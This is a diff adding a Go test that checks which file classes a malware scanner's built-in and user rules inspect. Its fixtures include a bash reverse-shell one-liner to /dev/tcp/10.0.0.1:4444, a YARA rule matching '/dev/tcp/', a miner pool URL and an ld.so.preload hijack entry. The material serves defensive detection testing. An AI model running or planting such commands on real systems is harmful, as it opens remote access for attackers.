@@ -614,3 +614,67 @@ func TestConcurrentScanners(t *testing.T) {
 	}
 	wg.Wait()
 }
+
+// TestFileClassGates checks which files built-in rules look at (see Scanner.Scan) and that
+// user rules still see every file.
+func TestFileClassGates(t *testing.T) {
+	dir := t.TempDir()
+	writeFiles(t, dir, map[string]string{"u.yar": `rule user_devtcp { strings: $a = "/dev/tcp/" condition: $a }`})
+	rs, err := Compile(Options{Paths: []string{dir}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer rs.Close()
+	s := newScanner(t, rs)
+
+	oneLiner := []byte("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n")
+	random := make([]byte, 4096)
+	for i := range random {
+		random[i] = byte(i*7919 + i>>3)
+	}
+	random[0] = 0 // not text
+	elf, err := os.ReadFile("testdata/pos/rs020_revshell.elf")
+	if err != nil {
+		t.Fatal(err)
+	}
+	stratum := []byte(" stratum+tcp://pool.example.net:3333 ")
+	var tarHead [512]byte
+	copy(tarHead[257:], "ustar")
+	tests := []struct {
+		name string
+		path string
+		data []byte
+		want []string
+	}{
+		{"one-liner in a script", "/opt/x.sh", oneLiner, []string{"STRATA-RS-001", "user_devtcp"}},
+		// Not runnable from inside a blob; user rules still look.
+		{"one-liner appended to random bytes", "/opt/blob", append(slices.Clone(random), oneLiner...), []string{"user_devtcp"}},
+		{"one-liner in a gzip stream", "/opt/x.gz", append([]byte{0x1f, 0x8b, 8, 0}, oneLiner...), []string{"user_devtcp"}},
+		{"one-liner in a PNG", "/srv/a.png", append([]byte("\x89PNG\r\n\x1a\n"), oneLiner...), []string{"user_devtcp"}},
+		// ELF files get the ELF rules and the scope-any rules: a miner's pool URL in a binary.
+		{"ELF reverse shell", "/usr/bin/kupdate", elf, []string{"STRATA-RS-020"}},
+		{"ELF with a pool URL", "/usr/bin/kworker", append(slices.Clone(elf), stratum...), []string{"STRATA-RS-020", "STRATA-MN-002"}},
+		{"tar holding a pool URL", "/opt/a.tar", append(tarHead[:], stratum...), []string{"STRATA-MN-002"}},
+		{"ld.so.preload", "/etc/ld.so.preload", []byte("/tmp/.x/libz.so\n"), []string{"STRATA-LP-010", "STRATA-LP-011"}},
+	}
+	for _, tt := range tests {
+		ms, err := s.Scan(FileInfo{Path: tt.path, Owner: "root", Size: int64(len(tt.data))}, tt.data)
+		if err != nil {
+			t.Fatalf("%s: %v", tt.name, err)
+		}
+		var got []string
+		for _, m := range ms {
+			if m.Rule.Namespace == "u.yar" {
+				got = append(got, m.Rule.Name)
+			} else {
+				got = append(got, m.Rule.Meta.ID)
+			}
+		}
+		slices.Sort(got)
+		want := slices.Clone(tt.want)
+		slices.Sort(want)
+		if !slices.Equal(got, want) {
+			t.Errorf("%s: matched %v, want %v", tt.name, got, want)
+		}
+	}
+}
